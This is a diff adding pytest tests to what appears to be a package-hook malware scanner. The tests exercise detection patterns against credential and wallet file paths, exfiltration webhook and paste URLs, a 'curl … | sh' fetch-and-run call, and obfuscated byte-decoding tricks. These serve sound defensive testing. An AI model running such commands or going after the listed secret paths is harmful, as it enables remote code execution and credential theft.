@@ -7,11 +7,17 @@ and evasions) and by bench/scan_equivalence.py (corpora); these tests pin the pi
 from __future__ import annotations
 
 import re
+import re._parser as sre_parse
 
 import pytest
 
 from safepip.checks.hooks import calls, prefilter
-from safepip.checks.hooks.patterns import IGNORECASE_LETTERS, fold_case
+from safepip.checks.hooks.patterns import (
+    IGNORECASE_LETTERS,
+    SENSITIVE_PATH,
+    WEBHOOK,
+    fold_case,
+)
 from safepip.checks.hooks.prefilter import _Fragments, _View, worth_parsing
 
 FRAGMENTS = {
@@ -142,3 +148,44 @@ def test_a_wsgi_environ_without_os_is_not_the_environment() -> None:
     assert not worth_parsing(wsgi.encode(), wsgi)
     assert not worth_parsing(one.encode(), one)
     assert worth_parsing(real.encode(), real) and worth_parsing(aliased.encode(), aliased)
+
+
+SECRET_VALUES = (
+    "~/.ssh/id_rsa", ".ssh", "C:\\Users\\me\\.ssh\\config", "\tid_ed25519",
+    "/home/u/.aws/credentials", "C:\\Users\\me\\AppData\\Local\\Google\\Chrome\\User Data",
+    "~/Library/Keychains/login.keychain-db", "/etc/passwd", "x/.netrc",
+    "%APPDATA%\\Exodus\\exodus.wallet", "https://discord.com/api/webhooks/1/x",
+    "https://hooks.slack.com/services/T/B/x", "https://x.oast.fun/", "PASTEBIN.COM/raw/1",
+)
+
+
+@pytest.mark.parametrize("value", SECRET_VALUES)
+def test_secret_patterns_in_source_find_the_literals_that_hold_them(value: str) -> None:
+    assert SENSITIVE_PATH.search(value) or WEBHOOK.search(value)
+    for source in (f"P = {value!r}\n", f"P = r'{value}'\n" if "'" not in value else ""):
+        if source:
+            assert any(p.search(fold_case(source).encode()) for p in prefilter._SECRETS_IN_SOURCE)
+            assert worth_parsing(source.encode(), source), source
+
+
+def test_the_reach_around_a_hint_is_longer_than_any_match() -> None:
+    for pattern in prefilter._SECRETS_IN_SOURCE:
+        _, longest = sre_parse.parse(pattern.pattern, pattern.flags).getwidth()
+        assert longest <= prefilter._REACH, pattern.pattern
+
+
+def test_words_after_escapes_count() -> None:
+    """`'\\tcurl ...'` holds the word curl (its text only `tcurl`)."""
+    view = _view("import subprocess\nsubprocess.call('\\tcurl -s https://x.invalid | \\tsh')\n")
+    assert {b"curl", b"sh"} <= view.words
+    assert view.shell_text()
+
+
+@pytest.mark.parametrize(
+    ("code", "decodes"),
+    [("exec(bytes ([1, 2]))", True), ("run(bytearray((1, 2)))", True),
+     ("import builtins\nbuiltins.bytes([1])", True), ("globals()['bytes']([1])", True),
+     ("def f(x: bytes) -> None:\n    g([1])\n", False), ("x.to_bytes(2)\nf([1])", False)],
+)
+def test_bytes_of_a_display_is_a_decoder(code: str, decodes: bool) -> None:
+    assert _view(code).decodes() is decodes
